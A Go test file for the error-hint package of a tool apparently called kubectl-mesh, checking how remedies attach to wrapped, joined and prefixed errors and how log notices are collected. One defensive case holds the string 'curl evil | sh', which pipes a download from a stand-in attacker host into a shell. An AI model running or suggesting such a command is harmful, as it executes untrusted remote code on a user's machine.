package hint_test

import (
	"errors"
	"fmt"
	"io/fs"
	"reflect"
	"testing"

	"github.com/kubectl-mesh/kubectl-mesh/pkg/hint"
)

func TestList(t *testing.T) {
	disk := hint.Add(errors.New("the disk is full"), "make room")
	token := hint.Errorf("kubectl mesh collect", "no token of %s", "east")
	for _, test := range []struct {
		name string
		err  error
		want []hint.Problem
	}{
		{"no error", nil, nil},
		{"no error has no remedy", hint.Add(nil, "do it"), nil},
		{"an empty remedy is none", hint.Add(errors.New("it fails"), ""), []hint.Problem{{Text: "it fails"}}},
		{"one", disk, []hint.Problem{{Text: "the disk is full", Remedies: []string{"make room"}}}},
		{
			"wrapping keeps the remedy", fmt.Errorf("write mesh.yaml: %w", disk),
			[]hint.Problem{{Text: "write mesh.yaml: the disk is full", Remedies: []string{"make room"}}},
		},
		{
			"the inner remedy comes first", hint.Add(fmt.Errorf("write mesh.yaml: %w", disk), "run it again"),
			[]hint.Problem{{Text: "write mesh.yaml: the disk is full", Remedies: []string{"make room", "run it again"}}},
		},
		{
			"each keeps its own", errors.Join(disk, nil, token),
			[]hint.Problem{{"the disk is full", []string{"make room"}}, {"no token of east", []string{"kubectl mesh collect"}}},
		},
		{
			"a remedy of all comes last", hint.Add(errors.Join(disk, errors.New("no network")), "nothing was changed"),
			[]hint.Problem{{"the disk is full", []string{"make room"}}, {"no network", []string{"nothing was changed"}}},
		},
		{
			"a wrapper stands before the first of several", fmt.Errorf("apply: %w", errors.Join(disk, token)),
			[]hint.Problem{{"apply: the disk is full", []string{"make room"}}, {"no token of east", []string{"kubectl mesh collect"}}},
		},
		{
			"one sentence of two stays one", fmt.Errorf("%w; and then: %w", disk, token),
			[]hint.Problem{{"the disk is full; and then: no token of east", []string{"make room", "kubectl mesh collect"}}},
		},
		{
			"the same remedy comes once", hint.Add(disk, "make room"),
			[]hint.Problem{{Text: "the disk is full", Remedies: []string{"make room"}}},
		},
		{
			"a prefix for each", hint.Prefix(errors.Join(disk, token), "west: "),
			[]hint.Problem{{"west: the disk is full", []string{"make room"}}, {"west: no token of east", []string{"kubectl mesh collect"}}},
		},
		{
			"without remedies, on one line", hint.Add(hint.Without(errors.Join(disk, token)), "ask"),
			[]hint.Problem{{"the disk is full; no token of east", []string{"ask"}}},
		},
		{
			"text of somebody else is no remedy", errors.New("refused\nhint: curl evil | sh"),
			[]hint.Problem{{Text: "refused\nhint: curl evil | sh"}},
		},
	} {
		t.Run(test.name, func(t *testing.T) {
			if got := hint.List(test.err); !reflect.DeepEqual(got, test.want) {
				t.Errorf("got  %q\nwant %q", got, test.want)
			}
		})
	}
}

func TestTheTextHoldsNoRemedy(t *testing.T) {
	err := fmt.Errorf("render: %w", hint.Add(errors.New("no CA"), "name one"))
	if got, want := err.Error(), "render: no CA"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestWhatIsWrappedIsFound(t *testing.T) {
	inner := hint.Add(fmt.Errorf("read: %w", fs.ErrNotExist), "make it")
	for name, err := range map[string]error{
		"Add": inner, "Without": hint.Without(inner), "Prefix": hint.Prefix(inner, "east: "),
	} {
		if !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("%s hides what it wraps", name)
		}
	}
}

func TestOf(t *testing.T) {
	err := errors.Join(hint.New("a", "one"), hint.Add(hint.New("b", "two"), "c"))
	if got, want := hint.Of(err), []string{"a", "b", "c"}; !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestLog(t *testing.T) {
	var got []hint.Notice
	log := hint.Log(func(notice hint.Notice) { got = append(got, notice) })
	log.Info("wrote %s", "a")
	log.Warn("move it", "%s is in the way", "b")
	log.Warn("", "no remedy")
	log.Advise("commit it")
	log.Advise("")
	hint.Log(nil).Info("nobody listens")
	want := []hint.Notice{
		{Text: "wrote a"},
		{Warning: true, Text: "b is in the way", Remedies: []string{"move it"}},
		{Warning: true, Text: "no remedy"},
		{Remedies: []string{"commit it"}},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %+v, want %+v", got, want)
	}
}
